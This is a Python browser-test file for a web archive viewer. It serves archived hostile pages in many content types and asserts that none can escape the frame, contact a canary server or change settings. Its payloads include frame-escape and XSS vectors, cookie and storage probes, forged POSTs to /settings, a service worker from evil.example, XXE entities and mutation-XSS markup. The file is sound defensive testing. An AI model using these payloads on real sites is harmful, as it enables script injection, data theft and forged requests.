"""A page that tries everything to get out of its frame, in a real browser.

It is stored as HTML, SVG, XHTML, XML with XSLT and under wrong types, and opened in
the frame, directly, and as untouched payload in a frame that has lost its sandbox
attribute, so that the header set alone must hold. Nothing may change, and a server
beside the site must hear nothing.
"""

from __future__ import annotations

import contextlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.browser.conftest import CHROMIUM
from tests.browser.live_site import Canary, Site
from tests.browser.rewriting import ARGUMENTS, LOOKED_UP, listener, looked_up
from tests.webui.archive_text import response, write_archive
from webui.settings_file import settings_hash

pytestmark = pytest.mark.browser

SCRIPT = """
const out = (what) => { try { new Image().src = "CANARY/" + what } catch (e) {} };
const attempt = (what, deed) => { try { Promise.resolve(deed()).then((r) => out(what), () => {}) } catch (e) {} };
out("script-ran");
attempt("cookie", () => { if (!document.cookie) throw 1 });
attempt("storage", () => localStorage.setItem("probe", "was here"));
attempt("parent", () => parent.document.title = "taken over");
attempt("top-dom", () => top.document.body.innerHTML);
attempt("read-ui", () => fetch("/settings").then((r) => r.text()));
attempt("post-ui", () => fetch("/settings", {method: "POST", body: new URLSearchParams({"search.k1": "1"})}));
attempt("blind-post", () => fetch("/settings", {method: "POST", mode: "no-cors", body: "x"}));
attempt("worker", () => navigator.serviceWorker.register("/web/2015js_/http://evil.example/sw.js"));
attempt("beacon", () => { if (!navigator.sendBeacon("CANARY/beaconed", "x")) throw 1 });
attempt("fetch", () => fetch("CANARY/fetched"));
attempt("socket", () => new WebSocket("CANARY/socket".replace("http", "ws")));
attempt("open", () => { if (!window.open("CANARY/opened")) throw 1 });
setTimeout(() => { const f = document.createElement("form"); f.action = "/settings"; f.method = "post";
  document.documentElement.append(f); f.submit() }, 250);
setTimeout(() => { try { top.location = "CANARY/top" } catch (e) {} }, 300);
setTimeout(() => { location = "CANARY/self" }, 350);
"""
MARKUP = """
<meta http-equiv="refresh" content="0;url=CANARY/refresh">
<link rel="preconnect" href="CANARY"><link rel="dns-prefetch" href="CANARY"><link rel="prefetch" href="CANARY/prefetch">
<link rel="preload" as="image" href="CANARY/preload"><link rel="stylesheet" href="CANARY/css">
<link rel="icon" href="CANARY/icon">
<link rel="manifest" href="CANARY/manifest"><link rel="modulepreload" href="CANARY/module">
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["CANARY/speculation"]}]}</script>
<style>@import "CANARY/import"; @font-face { font-family: f; src: url(CANARY/font) }
body { background: url(CANARY/background); font-family: f } .x { background: u\\72l(CANARY/escaped) }</style>
<body onload="SCRIPT_ATTRIBUTE" style="border-image: url(CANARY/border)">
<p class="x">zebra</p><img src="CANARY/image"><img src="/none" onerror="SCRIPT_ATTRIBUTE">
<img srcset="CANARY/srcset 1x"><picture><source srcset="CANARY/source"><img></picture>
<video src="CANARY/video" autoplay poster="CANARY/poster"></video><audio src="CANARY/audio" autoplay></audio>
<iframe src="CANARY/iframe"></iframe><iframe src="/settings"></iframe>
<iframe srcdoc="&lt;img src='CANARY/srcdoc'&gt;"></iframe>
<iframe src="javascript:parent.SCRIPT_ATTRIBUTE"></iframe><object data="CANARY/object"></object>
<embed src="CANARY/embed">
<object data="data:text/html,<script>new Image().src='CANARY/data'</script>"></object>
<form action="CANARY/formed" method="post" id="f"><input name="a"><button id="go">go</button></form>
<svg onload="SCRIPT_ATTRIBUTE"><image href="CANARY/svgimage"/><use href="CANARY/use#a"/><script>out</script></svg>
<math><mtext><script>SCRIPT_ATTRIBUTE</script></mtext></math>
<template shadowrootmode="open"><img src="CANARY/shadow"></template>
<a id="link" href="CANARY/link" ping="CANARY/ping">link</a> <a id="top" href="CANARY/toplink" target="_top">top</a>
<a id="blank" href="CANARY/blank" target="_blank">blank</a> <a id="js" href="javascript:SCRIPT_ATTRIBUTE">js</a>
"""


def probe(canary: Canary) -> dict[str, tuple[str, str]]:
    """Return the hostile page in each form: name -> (content type, body)."""
    script = SCRIPT.replace("CANARY", canary.address)
    attribute = f"new Image().src='{canary.address}/handler'"
    markup = MARKUP.replace("CANARY", canary.address).replace("SCRIPT_ATTRIBUTE", attribute)
    html = f"<!doctype html><html><head><title>Hostile zebra</title><script>{script}</script>{markup}</html>"
    cdata = f"<script>//<![CDATA[\n{script}\n//]]></script>"
    refresh = f'<meta http-equiv="refresh" content="0;url={canary.address}/refresh" />'
    xhtml = (
        '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>Hostile zebra</title>'
        f"{refresh}{cdata}"
        f'</head><body onload="{attribute}"><p>zebra</p><img src="{canary.address}/image" alt="" /></body></html>'
    )
    svg = (
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" '
        f'onload="{attribute}">'
        f'{cdata}<image x:href="{canary.address}/image" width="9" height="9"/><foreignObject width="9" height="9">'
        f'<iframe xmlns="http://www.w3.org/1999/xhtml" src="{canary.address}/iframe"></iframe></foreignObject></svg>'
    )
    xslt = (
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x><xsl:stylesheet id="s" version="1.0" '
        'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body>'
        f'{cdata}<img src="{canary.address}/image"/></body></html></xsl:template></xsl:stylesheet></x>'
    )
    outside = (
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/web/2015oe_/http://evil.example/sheet.xsl"?>'
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary.address}/entity">]><x>&e; zebra</x>'
    )
    styled = (
        f'<?xml version="1.0"?><?xml-stylesheet type="text/css" href="{canary.address}/sheet"?>'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="90" height="90">'
        f'<style>@import "{canary.address}/import"; rect {{ fill: url({canary.address}/fill#a) }}</style>'
        f'<use x:href="{canary.address}/use#a"/><feImage href="{canary.address}/fe"/><rect width="9" height="9"/>'
        f'<animate attributeName="href" values="javascript:{attribute}"/><set attributeName="onload" to="{attribute}"/>'
        f'<a id="link" x:href="javascript:{attribute}"><text y="20">zebra</text></a></svg>'
    )
    mhtml = (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n"
        f"--b\r\nContent-Type: text/html\r\n\r\n{html}\r\n--b--"
    )
    return {
        "html": ("text/html", html),
        "xhtml": ("application/xhtml+xml", xhtml),
        "svg": ("image/svg+xml", svg),
        "xslt": ("text/xml", xslt),
        "xslt-outside": ("application/xml", outside),
        "svg-styled": ("image/svg+xml", styled),
        "xml": ("application/xml", xhtml),
        "mhtml": ("multipart/related", mhtml),
        "message": ("message/rfc822", mhtml),
        "untyped": ("", html),
        "as-text": ("text/plain", html),
        "as-image": ("image/png", html),
        "as-css": ("text/css", html),
        "as-json": ("application/json", html),
        "unknown": ("x-odd/type", html),
        "exchange": ("application/signed-exchange;v=b3", html),
        "raw-text": ("text/html", f"<title>Hostile zebra</title>zebra {raw_text(canary.address)}"),
        "playlist": (
            "application/vnd.apple.mpegurl",
            f"#EXTM3U\n#EXTINF:1,\n{canary.address}/piece.ts\n#EXT-X-ENDLIST",
        ),
        "film": (
            "text/html",
            "<title>Hostile zebra</title>zebra <video src=playlist autoplay preload=auto></video>",
        ),
    }


def raw_text(address: str) -> str:
    """Return text that is markup after a second parsing, where a writer leaves it as it is."""
    frame = f"&lt;iframe src={address}/raw&gt;&lt;/iframe&gt;"
    names = (
        "noframes",
        "noembed",
        "xmp",
        "iframe",
        "plaintext",
        "noscript",
        "style",
        "script",
        "title",
        "textarea",
    )
    return "".join(
        f"<{space}><{name}>{frame}</{name}></{space}>" for name in names for space in ("svg", "math")
    )


FORMS = list(probe(Canary()))


@pytest.fixture
def hostile_site(serve: Callable[..., Site], canary: Canary, tmp_path: Path) -> Site:
    records = [
        response(f"http://evil.example/{name}", body, content_type)
        for name, (content_type, body) in probe(canary).items()
    ]
    worker = response("http://evil.example/sw.js", "self.onfetch = () => {}", "text/javascript")
    sheet = response("http://evil.example/sheet.xsl", probe(canary)["xslt"][1], "text/xsl")
    return serve(write_archive(tmp_path / "hostile.warc.gz", *records, worker, sheet))


def test_the_probe_gets_out_where_nothing_holds_it(browser: Any, canary: Canary) -> None:
    """Without this the silence below would prove nothing."""
    body = probe(canary)["html"][1].replace('content="0;url', 'content="9;url')
    for moment in (250, 300, 350):  # on a busy machine the page would go on before its images are asked for
        assert f"}}, {moment});" in body
        body = body.replace(f"}}, {moment});", f"}}, {20 * moment});")
    canary.body = body.encode()
    context = browser.new_context()
    page = context.new_page()
    with contextlib.suppress(Exception):
        page.goto(canary.address + "/probe")
    deeds = "script-ran handler beaconed fetched opened image iframe css".split() + ["POST /settings"]
    for _ in range(80):  # a busy machine takes its time
        missing = [deed for deed in deeds if deed not in " ".join(canary.heard)]
        if not missing:
            break
        page.wait_for_timeout(250)
    context.close()
    assert missing == []


@pytest.mark.parametrize("form", FORMS)
def test_nothing_gets_out_of_a_cached_page(
    browser: Any, canary: Canary, hostile_site: Site, form: str
) -> None:
    site = hostile_site
    url = f"http://evil.example/{form}"
    before = settings_hash(site.settings.path)
    context = browser.new_context()
    context.add_cookies([{"name": "login", "value": "secret", "url": site.address}])
    page = context.new_page()

    def opens(address: str) -> None:
        with contextlib.suppress(Exception):  # a download is no page
            page.goto(site.address + address, wait_until="load", timeout=8000)
        page.wait_for_timeout(700)

    frame_page = f"/cached/2015/{url}"
    opens("/")
    page.evaluate("localStorage.setItem('own', 'kept')")
    opens(frame_page)
    assert page.url == site.address + frame_page
    assert page.title().startswith("Archived: ")
    click_all(page)
    assert page.url.startswith(f"{site.address}/cached/")  # links lead to pages of ours and nowhere else

    for modifier in ("mp_", "id_"):
        # In a frame whose sandbox attribute is gone, the header has to hold alone.
        opens(frame_page)
        page.evaluate(
            "address => { let f = document.querySelector('iframe'); if (!f) { f = document.createElement('iframe');"
            " document.body.append(f) } f.removeAttribute('sandbox'); f.src = address }",
            f"/web/2015{modifier}/{url}",
        )
        page.wait_for_timeout(700)
        assert page.url == site.address + frame_page
        # Opened directly.
        opens(f"/web/2015{modifier}/{url}")
        assert page.url.startswith(site.address)

    opens("/settings")
    assert page.evaluate("Object.assign({}, localStorage)") == {"own": "kept"}
    assert page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)") == 0
    assert len(context.pages) == 1
    context.close()
    assert canary.heard == []
    assert settings_hash(site.settings.path) == before


def test_no_connection_is_opened_and_no_name_looked_up(
    driver: Any, serve: Callable[..., Site], tmp_path: Path
) -> None:
    """Requests are not all: a browser connects for a frame before it refuses it, and looks the name up before that."""
    kinds = ("mp_", "id_", "im_", "if_")
    log = tmp_path / "net.json"
    got_out: list[str] = []
    with listener() as heard:
        records = []
        for prefix, address in (("", f"http://{heard.address}"), ("named/", f"http://b.{LOOKED_UP}")):
            for name, (content_type, body) in probe(Canary(address)).items():
                records.append(response(f"http://evil.example/{prefix}{name}", body, content_type))
        site = serve(write_archive(tmp_path / "hostile.warc.gz", *records))
        chromium = driver.chromium.launch(executable_path=CHROMIUM, args=[*ARGUMENTS, f"--log-net-log={log}"])
        page = chromium.new_page()
        for name in (f"{prefix}{form}" for form in FORMS for prefix in ("", "named/")):
            url = f"http://evil.example/{name}"
            for address in (f"/cached/2015/{url}", *(f"/web/2015{kind}/{url}" for kind in kinds)):
                with contextlib.suppress(Exception):  # a download is no page
                    page.goto(site.address + address, wait_until="load", timeout=8000)
                page.wait_for_timeout(100)
            framed = "".join(f'<iframe src="/web/2015{kind}/{url}"></iframe>' for kind in kinds)
            page.goto(f"{site.address}/healthz")
            page.evaluate("html => { document.body.innerHTML = html }", framed)
            page.wait_for_timeout(300)
            if heard.connections > len(got_out):
                got_out += [name] * (heard.connections - len(got_out))
        chromium.close()
    assert got_out == []
    assert looked_up(log) == set()


@pytest.mark.parametrize("form", FORMS)
def test_nothing_gets_out_of_marked_pages_and_tabs(
    browser: Any, canary: Canary, hostile_site: Site, form: str
) -> None:
    url = f"http://evil.example/{form}"
    context = browser.new_context()
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    for address in (
        f"/cached/2015;q=zebra/{url}",
        f"/cached/2015;q=zebra;view=text/{url}",
        f"/cached/2015;view=details/{url}",
        f"/cached/2015;view=cite/{url}",
        f"/captures/*/{url}",
        f"/compare?url={url}&phrase=zebra",
    ):
        page.goto(hostile_site.address + address, wait_until="load", timeout=8000)
        page.wait_for_timeout(300)
        assert page.url == hostile_site.address + address
        assert page.evaluate("document.querySelectorAll('main script, main style, main img').length") == 0
    assert len(context.pages) == 1 and errors == []
    context.close()
    assert canary.heard == []


@pytest.mark.parametrize("with_scripts", [True, False])
def test_query_words_are_reached_in_the_page(
    browser: Any, serve: Callable[..., Site], tmp_path: Path, with_scripts: bool
) -> None:
    from playwright.sync_api import expect

    filler = "<p>filler</p>" * 300
    body = f"<html><body><p>zebra one</p>{filler}<p id=far>zebra two</p></body></html>"
    site = serve(write_archive(tmp_path / "long.warc.gz", response("http://site.example/", body)))
    context = browser.new_context(java_script_enabled=with_scripts)
    page = context.new_page()
    page.goto(f"{site.address}/cached/2015;q=zebra/http://site.example/", wait_until="load")
    if with_scripts:
        page.get_by_role("button", name="next").click()
        page.get_by_role("button", name="next").click()
        assert page.locator("[data-hit-place]").text_content() == "2 / 2"
    else:
        page.get_by_role("link", name="place 2").click()
    page.frames[1].wait_for_url("**#finding-aid-hit-2")
    expect(page.frame_locator("iframe").locator("#far mark")).to_be_in_viewport()
    assert page.title() == "Archived: http://site.example/"
    context.close()


def click_all(page: Any) -> None:
    """Click whatever can be clicked in the frame, as a reader might."""
    for name in ("#js", "#blank", "#top", "#go", "#link"):
        with contextlib.suppress(Exception):
            page.frames[1].click(name, timeout=700)
            page.wait_for_timeout(300)


def test_pictures_and_styles_of_the_archive_are_shown(
    browser: Any, serve: Callable[..., Site], tmp_path: Path
) -> None:
    """What holds the hostile page must not break the honest one."""
    picture = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"><rect width="40" height="30"/></svg>'
    )
    html = ("<!doctype html><html><head><link rel=stylesheet href=s.css></head><body><img id=i src=p.svg>"
            "<iframe name=inner src=inner></iframe></body></html>")  # fmt: skip
    file = write_archive(
        tmp_path / "honest.warc.gz",
        response("http://site.example/", html),
        response("http://site.example/inner", "<p>inner page <img id=j src=p.svg>"),
        response("http://site.example/p.svg", picture, "image/svg+xml"),
        response("http://site.example/s.css", "@import 'more.css';", "text/css"),
        response("http://site.example/more.css", "body { background-color: rgb(1, 2, 3) }", "text/css"),
    )
    site = serve(file)
    page = browser.new_context().new_page()
    page.goto(f"{site.address}/cached/2015/http://site.example/")
    page.frame_locator("iframe").frame_locator("iframe").get_by_text("inner page").wait_for()
    outer, inner = page.frames[1], page.frames[2]
    assert outer.evaluate("document.getElementById('i').naturalWidth") == 40
    assert outer.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(1, 2, 3)"
    assert inner.evaluate("document.getElementById('j').naturalWidth") == 40
    page.context.close()
